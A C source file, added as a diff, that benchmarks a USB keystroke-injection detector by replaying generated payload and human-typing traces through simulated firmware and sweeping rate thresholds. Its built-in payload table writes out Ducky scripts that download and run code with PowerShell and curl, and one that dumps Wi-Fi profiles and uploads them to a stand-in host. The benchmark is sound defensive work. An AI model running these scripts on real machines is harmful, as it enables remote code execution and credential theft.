@@ -0,0 +1,606 @@
+/*
+ * PlugSafe Detection Benchmark
+ * Replays a labeled corpus of injection payloads and human typing through
+ * the simulated firmware and sweeps the detection threshold and window
+ * Copyright (c) 2026
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ */
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <errno.h>
+#include "hid_trace.h"
+#include "replay.h"
+#include "sim_firmware.h"
+#include "threat_analyzer.h"
+#include "hid_monitor.h"
+#include "event_queue.h"
+#include "synth.h"
+#include "ducky.h"
+#include "typing_model.h"
+
+#define BENCH_TRACE_CAP               (4u << 20)
+#define BENCH_DEV_ADDR                1
+#define BENCH_MAX_LIST                16
+#define BENCH_KEYS_OFFSET             2     /* Boot report: modifiers, reserved, 6 keys */
+
+/* One labeled trace */
+typedef struct {
+    bool malicious;
+    char name[64];
+    uint8_t *trace;
+    size_t len;
+} corpus_entry_t;
+
+typedef struct {
+    corpus_entry_t *entries;
+    uint32_t count;
+    uint32_t cap;
+} corpus_t;
+
+/* What one replay observed */
+typedef struct {
+    bool detected;
+    uint64_t first_key_us;            /* Virtual time of the first key press, 0 = none */
+    uint64_t detect_us;               /* Virtual time the verdict became MALICIOUS */
+    uint32_t keystrokes;              /* Key presses delivered */
+    uint32_t leaked;                  /* Key presses delivered up to the verdict */
+    uint32_t peak_rate_hz;
+} run_result_t;
+
+/* Aggregates for one threshold/window pair */
+typedef struct {
+    uint32_t threshold_hz;
+    uint32_t window_ms;
+    uint32_t payloads;
+    uint32_t detected;
+    double latency_p50_ms;
+    double latency_p95_ms;
+    double latency_max_ms;
+    uint32_t leaked_p50;
+    uint32_t leaked_p95;
+    uint32_t leaked_max;
+    uint32_t humans;
+    uint32_t false_positives;
+    uint32_t human_peak_p95_hz;
+    uint32_t human_peak_max_hz;
+    uint32_t human_over_normal;       /* Human traces that peaked above RATE_NORMAL_MAX_HZ */
+} sweep_row_t;
+
+/* Built-in payloads; each is compiled at several typing speeds */
+static const struct {
+    const char *name;
+    const char *script;
+} g_payloads[] = {
+    { "run-dialog",
+      "DELAY 1000\nGUI r\nDELAY 300\n"
+      "STRINGLN powershell -w hidden -c \"iwr http://10.0.0.1/x.ps1 | iex\"\n" },
+    { "short",
+      "DELAY 500\nGUI r\nDELAY 200\nSTRINGLN cmd /c calc\n" },
+    { "terminal",
+      "DELAY 800\nCTRL ALT t\nDELAY 600\n"
+      "STRINGLN curl -s http://10.0.0.1/i.sh | sh\nSTRINGLN exit\n" },
+    { "exfil",
+      "DELAY 1000\nGUI r\nDELAY 300\nSTRINGLN cmd\nDELAY 500\n"
+      "STRINGLN netsh wlan show profiles > %TEMP%\\w.txt\n"
+      "STRINGLN ipconfig /all >> %TEMP%\\w.txt\n"
+      "STRINGLN curl -T %TEMP%\\w.txt http://10.0.0.1/up\n"
+      "STRINGLN del %TEMP%\\w.txt & exit\n" }
+};
+
+#define PAYLOAD_COUNT                 (sizeof(g_payloads) / sizeof(g_payloads[0]))
+
+/* Per-character gaps (ms) the payloads are compiled with, fastest first */
+static const uint32_t g_string_delays_ms[] = { 0, 2, 5, 10, 20, 40, 60 };
+
+#define STRING_DELAY_COUNT            (sizeof(g_string_delays_ms) / sizeof(g_string_delays_ms[0]))
+
+/* Typist speeds, words per minute */
+static const uint32_t g_wpms[] = { 40, 60, 80, 100, 120, 140 };
+
+#define WPM_COUNT                     (sizeof(g_wpms) / sizeof(g_wpms[0]))
+
+/* ============================================================================
+ * CORPUS
+ * ============================================================================ */
+
+static bool _corpus_add(corpus_t *corpus, bool malicious, const char *name,
+                        const uint8_t *trace, size_t len) {
+    if (corpus->count == corpus->cap) {
+        uint32_t cap = corpus->cap ? corpus->cap * 2 : 64;
+        corpus_entry_t *bigger = realloc(corpus->entries, cap * sizeof(*bigger));
+        if (!bigger) {
+            return false;
+        }
+        corpus->entries = bigger;
+        corpus->cap = cap;
+    }
+    uint8_t *copy = malloc(len);
+    if (!copy) {
+        return false;
+    }
+    memcpy(copy, trace, len);
+    corpus_entry_t *entry = &corpus->entries[corpus->count++];
+    entry->malicious = malicious;
+    snprintf(entry->name, sizeof(entry->name), "%s", name);
+    entry->trace = copy;
+    entry->len = len;
+    return true;
+}
+
+static void _corpus_free(corpus_t *corpus) {
+    for (uint32_t i = 0; i < corpus->count; i++) {
+        free(corpus->entries[i].trace);
+    }
+    free(corpus->entries);
+}
+
+static void _begin_trace(hid_trace_writer_t *w, synth_keyboard_t *kbd, uint8_t *buf) {
+    static const synth_device_t dev = {
+        .dev_addr = BENCH_DEV_ADDR, .vid = 0x16C0, .pid = 0x27DB,
+        .manufacturer = "PlugSafe", .product = "Keyboard"
+    };
+    hid_trace_writer_init(w, buf, BENCH_TRACE_CAP, 0);
+    synth_write_keyboard(w, &dev, 0);
+    synth_keyboard_init(kbd, w, 0, SYNTH_DEFAULT_POLL_US);
+}
+
+/**
+ * @brief Compile n payload variants: the built-in scripts in turn, each
+ * at the next per-character gap, with 20% normal jitter on every gap
+ */
+static bool _generate_payloads(corpus_t *corpus, uint32_t n, uint32_t seed, uint8_t *buf) {
+    for (uint32_t i = 0; i < n; i++) {
+        uint32_t script = i % PAYLOAD_COUNT;
+        uint32_t delay_ms = g_string_delays_ms[(i / PAYLOAD_COUNT) % STRING_DELAY_COUNT];
+        ducky_options_t opt;
+        ducky_default_options(&opt);
+        opt.string_delay_ms = delay_ms;
+        opt.seed = seed + i;
+        opt.jitter.kind = SYNTH_JITTER_NORMAL;
+        opt.jitter.amount_us = (delay_ms * 1000 + opt.hold_us) / 5;
+
+        hid_trace_writer_t w;
+        synth_keyboard_t kbd;
+        _begin_trace(&w, &kbd, buf);
+        ducky_error_t err;
+        if (!ducky_compile(g_payloads[script].script, &opt, &kbd, NULL, &err)) {
+            fprintf(stderr, "plugsafe_detect_bench: %s line %u: %s\n",
+                    g_payloads[script].name, err.line, err.message);
+            return false;
+        }
+        size_t len = hid_trace_finish(&w);
+        char name[64];
+        snprintf(name, sizeof(name), "%s/%ums/%u", g_payloads[script].name, delay_ms, i);
+        if (len == 0 || !_corpus_add(corpus, true, name, buf, len)) {
+            return false;
+        }
+    }
+    return true;
+}
+
+/**
+ * @brief Generate n typists, cycling through the speeds in g_wpms
+ */
+static bool _generate_humans(corpus_t *corpus, uint32_t n, uint64_t duration_us, uint32_t seed,
+                             uint8_t *buf) {
+    for (uint32_t i = 0; i < n; i++) {
+        typing_options_t opt;
+        typing_default_options(&opt);
+        opt.wpm = g_wpms[i % WPM_COUNT];
+        opt.seed = seed + i;
+
+        hid_trace_writer_t w;
+        synth_keyboard_t kbd;
+        _begin_trace(&w, &kbd, buf);
+        typing_generate(duration_us, &opt, &kbd);
+        size_t len = hid_trace_finish(&w);
+        char name[64];
+        snprintf(name, sizeof(name), "human/%uwpm/%u", opt.wpm, i);
+        if (len == 0 || !_corpus_add(corpus, false, name, buf, len)) {
+            return false;
+        }
+    }
+    return true;
+}
+
+static bool _load_file(corpus_t *corpus, bool malicious, const char *path) {
+    FILE *f = fopen(path, "rb");
+    if (!f) {
+        fprintf(stderr, "plugsafe_detect_bench: %s: %s\n", path, strerror(errno));
+        return false;
+    }
+    fseek(f, 0, SEEK_END);
+    long size = ftell(f);
+    fseek(f, 0, SEEK_SET);
+    uint8_t *buf = size > 0 ? malloc((size_t)size) : NULL;
+    bool ok = buf && fread(buf, 1, (size_t)size, f) == (size_t)size;
+    fclose(f);
+    hid_trace_reader_t reader;
+    if (ok && !hid_trace_reader_init(&reader, buf, (size_t)size)) {
+        fprintf(stderr, "plugsafe_detect_bench: %s: not a HID trace\n", path);
+        ok = false;
+    }
+    if (ok) {
+        const char *base = strrchr(path, '/');
+        ok = _corpus_add(corpus, malicious, base ? base + 1 : path, buf, (size_t)size);
+    }
+    free(buf);
+    return ok;
+}
+
+/* ============================================================================
+ * MEASURING TARGET
+ * ============================================================================ */
+
+/* The firmware target, wrapped to watch verdicts and count key presses */
+static replay_target_t g_firmware;
+static run_result_t g_run;
+static uint64_t g_now_us;
+static uint8_t g_last_keys[HT_MAX_INTERFACES][6];
+
+/**
+ * @brief Count the keys in a boot report that were not down in the
+ * interface's previous report
+ */
+static uint32_t _new_presses(uint8_t itf_id, const uint8_t *data, uint16_t len) {
+    if (itf_id >= HT_MAX_INTERFACES || len <= BENCH_KEYS_OFFSET) {
+        return 0;
+    }
+    uint8_t keys[6] = { 0 };
+    uint16_t n = len - BENCH_KEYS_OFFSET;
+    memcpy(keys, data + BENCH_KEYS_OFFSET, n < 6 ? n : 6);
+    uint32_t presses = 0;
+    for (int i = 0; i < 6; i++) {
+        if (keys[i] && !memchr(g_last_keys[itf_id], keys[i], 6)) {
+            presses++;
+        }
+    }
+    memcpy(g_last_keys[itf_id], keys, 6);
+    return presses;
+}
+
+/**
+ * @brief Note the verdict time once; core events are drained unread
+ */
+static void _observe(void) {
+    core_event_t event;
+    while (event_queue_pop(&event)) {
+    }
+    if (!g_run.detected && threat_get_current_level(BENCH_DEV_ADDR) == THREAT_MALICIOUS) {
+        g_run.detected = true;
+        g_run.detect_us = g_now_us;
+        g_run.leaked = g_run.keystrokes;
+    }
+}
+
+static void _m_set_time(void *ctx, uint64_t now_us) {
+    g_now_us = now_us;
+    g_firmware.set_time(ctx, now_us);
+}
+
+static void _m_mount(void *ctx, const hid_trace_device_t *dev) {
+    g_firmware.mount(ctx, dev);
+    _observe();
+}
+
+static void _m_hid_mount(void *ctx, const hid_trace_interface_t *itf) {
+    g_firmware.hid_mount(ctx, itf);
+    _observe();
+}
+
+static void _m_report(void *ctx, const hid_trace_interface_t *itf,
+                      const uint8_t *data, uint16_t len) {
+    uint32_t presses = _new_presses(itf->itf_id, data, len);
+    if (presses && g_run.keystrokes == 0) {
+        g_run.first_key_us = g_now_us;
+    }
+    g_run.keystrokes += presses;
+    g_firmware.report(ctx, itf, data, len);
+    _observe();
+}
+
+static void _m_idle(void *ctx, uint64_t now_us) {
+    g_firmware.idle(ctx, now_us);
+    _observe();
+}
+
+/**
+ * @brief Replay one trace through a freshly booted firmware with the
+ * given tuning
+ */
+static bool _run(const corpus_entry_t *entry, const hid_monitor_tuning_t *tuning,
+                 run_result_t *result) {
+    sim_firmware_boot(false);
+    hid_monitor_set_tuning(tuning);
+    memset(&g_run, 0, sizeof(g_run));
+    memset(g_last_keys, 0, sizeof(g_last_keys));
+
+    sim_firmware_replay_target(&g_firmware);
+    replay_target_t target = g_firmware;
+    target.set_time = _m_set_time;
+    target.mount = _m_mount;
+    target.hid_mount = _m_hid_mount;
+    target.report = _m_report;
+    target.idle = _m_idle;
+
+    replay_options_t opt;
+    replay_default_options(&opt);
+    opt.unmount_at_end = false;
+    bool ok = replay_run(entry->trace, entry->len, &target, &opt, NULL);
+
+    hid_monitor_t *mon = hid_get_monitor_stats(BENCH_DEV_ADDR);
+    g_run.peak_rate_hz = mon ? mon->peak_rate_hz : 0;
+    if (!g_run.detected) {
+        g_run.leaked = g_run.keystrokes;
+    }
+    *result = g_run;
+    return ok;
+}
+
+/* ============================================================================
+ * STATISTICS
+ * ============================================================================ */
+
+static int _cmp_double(const void *a, const void *b) {
+    double x = *(const double *)a;
+    double y = *(const double *)b;
+    return (x > y) - (x < y);
+}
+
+/**
+ * @brief Nearest-rank percentile of n sorted values (n > 0)
+ */
+static double _percentile(const double *sorted, uint32_t n, uint32_t pct) {
+    uint32_t rank = (pct * n + 99) / 100;
+    return sorted[rank ? rank - 1 : 0];
+}
+
+/**
+ * @brief Replay the whole corpus under one tuning and aggregate
+ */
+static bool _sweep_point(const corpus_t *corpus, uint32_t threshold_hz, uint32_t window_ms,
+                         double *scratch_a, double *scratch_b, double *scratch_c,
+                         sweep_row_t *row, bool verbose) {
+    hid_monitor_tuning_t tuning = { .threshold_hz = threshold_hz, .window_ms = window_ms };
+    memset(row, 0, sizeof(*row));
+    row->threshold_hz = threshold_hz;
+    row->window_ms = window_ms;
+
+    double *latencies = scratch_a;
+    double *leaks = scratch_b;
+    double *peaks = scratch_c;
+    for (uint32_t i = 0; i < corpus->count; i++) {
+        const corpus_entry_t *entry = &corpus->entries[i];
+        run_result_t r;
+        if (!_run(entry, &tuning, &r)) {
+            fprintf(stderr, "plugsafe_detect_bench: %s: malformed trace\n", entry->name);
+            return false;
+        }
+        if (entry->malicious) {
+            leaks[row->payloads++] = r.leaked;
+            if (r.detected) {
+                uint64_t from = r.first_key_us ? r.first_key_us : r.detect_us;
+                latencies[row->detected++] = (r.detect_us - from) / 1e3;
+            }
+        } else {
+            peaks[row->humans++] = r.peak_rate_hz;
+            row->false_positives += r.detected;
+            row->human_over_normal += r.peak_rate_hz > RATE_NORMAL_MAX_HZ;
+        }
+        if (verbose) {
+            fprintf(stderr, "  %-24s %-9s %5u keys, peak %4u reports/s", entry->name,
+                    entry->malicious ? "payload" : "human", r.keystrokes, r.peak_rate_hz);
+            if (r.detected) {
+                fprintf(stderr, ", MALICIOUS after %.0f ms, %u keys leaked",
+                        (r.detect_us - (r.first_key_us ? r.first_key_us : r.detect_us)) / 1e3,
+                        r.leaked);
+            }
+            fprintf(stderr, "\n");
+        }
+    }
+
+    if (row->detected) {
+        qsort(latencies, row->detected, sizeof(double), _cmp_double);
+        row->latency_p50_ms = _percentile(latencies, row->detected, 50);
+        row->latency_p95_ms = _percentile(latencies, row->detected, 95);
+        row->latency_max_ms = latencies[row->detected - 1];
+    }
+    if (row->payloads) {
+        qsort(leaks, row->payloads, sizeof(double), _cmp_double);
+        row->leaked_p50 = (uint32_t)_percentile(leaks, row->payloads, 50);
+        row->leaked_p95 = (uint32_t)_percentile(leaks, row->payloads, 95);
+        row->leaked_max = (uint32_t)leaks[row->payloads - 1];
+    }
+    if (row->humans) {
+        qsort(peaks, row->humans, sizeof(double), _cmp_double);
+        row->human_peak_p95_hz = (uint32_t)_percentile(peaks, row->humans, 95);
+        row->human_peak_max_hz = (uint32_t)peaks[row->humans - 1];
+    }
+    return true;
+}
+
+static void _csv_header(FILE *out) {
+    fprintf(out, "threshold_hz,window_ms,payloads,detected,detection_rate,"
+                 "latency_p50_ms,latency_p95_ms,latency_max_ms,"
+                 "leaked_p50,leaked_p95,leaked_max,"
+                 "humans,false_positives,false_positive_rate,"
+                 "human_peak_p95_hz,human_peak_max_hz,human_over_normal_max\n");
+}
+
+static void _csv_row(FILE *out, const sweep_row_t *row) {
+    fprintf(out, "%u,%u,%u,%u,%.3f,", row->threshold_hz, row->window_ms, row->payloads,
+            row->detected, row->payloads ? (double)row->detected / row->payloads : 0.0);
+    if (row->detected) {
+        fprintf(out, "%.1f,%.1f,%.1f,", row->latency_p50_ms, row->latency_p95_ms,
+                row->latency_max_ms);
+    } else {
+        fprintf(out, ",,,");
+    }
+    fprintf(out, "%u,%u,%u,%u,%u,%.3f,%u,%u,%u\n", row->leaked_p50, row->leaked_p95,
+            row->leaked_max, row->humans, row->false_positives,
+            row->humans ? (double)row->false_positives / row->humans : 0.0,
+            row->human_peak_p95_hz, row->human_peak_max_hz, row->human_over_normal);
+}
+
+/* ============================================================================
+ * MAIN
+ * ============================================================================ */
+
+/**
+ * @brief Parse a comma-separated list of positive integers
+ */
+static uint32_t _parse_list(const char *text, uint32_t *values) {
+    uint32_t n = 0;
+    while (*text && n < BENCH_MAX_LIST) {
+        char *end;
+        unsigned long v = strtoul(text, &end, 10);
+        if (end == text || v == 0 || (*end && *end != ',')) {
+            return 0;
+        }
+        values[n++] = (uint32_t)v;
+        text = *end ? end + 1 : end;
+    }
+    return *text ? 0 : n;
+}
+
+static void _usage(void) {
+    fprintf(stderr,
+            "usage: plugsafe_detect_bench [options] [-m payload.pstrace]... [-b benign.pstrace]...\n"
+            "  Replays injection payloads and human typing through the simulated\n"
+            "  firmware for every threshold/window pair and writes one CSV row per\n"
+            "  pair. The firmware defaults are summarised on stderr.\n"
+            "  -m file               add a malicious trace (every key press counts as injected)\n"
+            "  -b file               add a benign trace\n"
+            "  --thresholds list     reports/s, comma-separated (default 20,30,40,50,60,80,100)\n"
+            "  --windows list        ms, comma-separated (default 250,500,1000,2000)\n"
+            "  --payloads n          generated payload variants (default 56)\n"
+            "  --humans n            generated typists, 40-140 wpm (default 24)\n"
+            "  --human-seconds n     length of each typist trace (default 120)\n"
+            "  --seed n              corpus seed (default 1)\n"
+            "  --csv file            write the CSV to a file instead of stdout\n"
+            "  --verbose             print every trace's result at the default tuning\n");
+}
+
+int main(int argc, char **argv) {
+    uint32_t thresholds[BENCH_MAX_LIST] = { 20, 30, 40, 50, 60, 80, 100 };
+    uint32_t threshold_count = 7;
+    uint32_t windows[BENCH_MAX_LIST] = { 250, 500, 1000, 2000 };
+    uint32_t window_count = 4;
+    uint32_t payloads = (uint32_t)(PAYLOAD_COUNT * STRING_DELAY_COUNT * 2);
+    uint32_t humans = 24;
+    double human_seconds = 120;
+    uint32_t seed = 1;
+    const char *csv_path = NULL;
+    bool verbose = false;
+
+    corpus_t corpus = { 0 };
+    bool ok = true;
+    for (int i = 1; i < argc && ok; i++) {
+        const char *arg = argv[i];
+        bool has_value = i + 1 < argc;
+        if (strcmp(arg, "-m") == 0 && has_value) {
+            ok = _load_file(&corpus, true, argv[++i]);
+        } else if (strcmp(arg, "-b") == 0 && has_value) {
+            ok = _load_file(&corpus, false, argv[++i]);
+        } else if (strcmp(arg, "--thresholds") == 0 && has_value) {
+            ok = (threshold_count = _parse_list(argv[++i], thresholds)) > 0;
+        } else if (strcmp(arg, "--windows") == 0 && has_value) {
+            ok = (window_count = _parse_list(argv[++i], windows)) > 0;
+        } else if (strcmp(arg, "--payloads") == 0 && has_value) {
+            payloads = (uint32_t)strtoul(argv[++i], NULL, 10);
+        } else if (strcmp(arg, "--humans") == 0 && has_value) {
+            humans = (uint32_t)strtoul(argv[++i], NULL, 10);
+        } else if (strcmp(arg, "--human-seconds") == 0 && has_value) {
+            human_seconds = strtod(argv[++i], NULL);
+        } else if (strcmp(arg, "--seed") == 0 && has_value) {
+            seed = (uint32_t)strtoul(argv[++i], NULL, 10);
+        } else if (strcmp(arg, "--csv") == 0 && has_value) {
+            csv_path = argv[++i];
+        } else if (strcmp(arg, "--verbose") == 0) {
+            verbose = true;
+        } else if (strcmp(arg, "-h") == 0 || strcmp(arg, "--help") == 0) {
+            _usage();
+            _corpus_free(&corpus);
+            return 0;
+        } else {
+            ok = false;
+        }
+    }
+    if (!ok) {
+        _usage();
+        _corpus_free(&corpus);
+        return 2;
+    }
+
+    uint8_t *buf = malloc(BENCH_TRACE_CAP);
+    ok = buf != NULL &&
+         _generate_payloads(&corpus, payloads, seed, buf) &&
+         _generate_humans(&corpus, humans, (uint64_t)(human_seconds * 1e6), seed, buf);
+    free(buf);
+    if (!ok || corpus.count == 0) {
+        fprintf(stderr, "plugsafe_detect_bench: %s\n",
+                ok ? "empty corpus" : "could not build the corpus");
+        _corpus_free(&corpus);
+        return 1;
+    }
+
+    FILE *out = stdout;
+    if (csv_path && !(out = fopen(csv_path, "w"))) {
+        fprintf(stderr, "plugsafe_detect_bench: %s: %s\n", csv_path, strerror(errno));
+        _corpus_free(&corpus);
+        return 1;
+    }
+
+    double *scratch = malloc(3 * corpus.count * sizeof(double));
+    if (!scratch) {
+        fprintf(stderr, "plugsafe_detect_bench: out of memory\n");
+        _corpus_free(&corpus);
+        return 1;
+    }
+
+    /* The firmware's own tuning first, for the summary */
+    sweep_row_t row;
+    ok = _sweep_point(&corpus, HID_KEYSTROKE_THRESHOLD_HZ, KEYSTROKE_RATE_WINDOW_MS,
+                      scratch, scratch + corpus.count, scratch + 2 * corpus.count,
+                      &row, verbose);
+    if (ok) {
+        fprintf(stderr, "firmware defaults (%u reports/s over %u ms): "
+                "%u/%u payloads detected",
+                row.threshold_hz, row.window_ms, row.detected, row.payloads);
+        if (row.detected) {
+            fprintf(stderr, ", latency p50 %.0f ms, p95 %.0f ms, max %.0f ms",
+                    row.latency_p50_ms, row.latency_p95_ms, row.latency_max_ms);
+        }
+        fprintf(stderr, ", keys leaked p50 %u, p95 %u, max %u; "
+                "%u/%u human traces flagged, human peak max %u reports/s\n",
+                row.leaked_p50, row.leaked_p95, row.leaked_max,
+                row.false_positives, row.humans, row.human_peak_max_hz);
+    }
+
+    _csv_header(out);
+    for (uint32_t t = 0; t < threshold_count && ok; t++) {
+        for (uint32_t w = 0; w < window_count && ok; w++) {
+            ok = _sweep_point(&corpus, thresholds[t], windows[w], scratch,
+                              scratch + corpus.count, scratch + 2 * corpus.count,
+                              &row, false);
+            if (ok) {
+                _csv_row(out, &row);
+            }
+        }
+    }
+
+    free(scratch);
+    if (out != stdout) {
+        fclose(out);
+    }
+    _corpus_free(&corpus);
+    return ok ? 0 : 1;
+}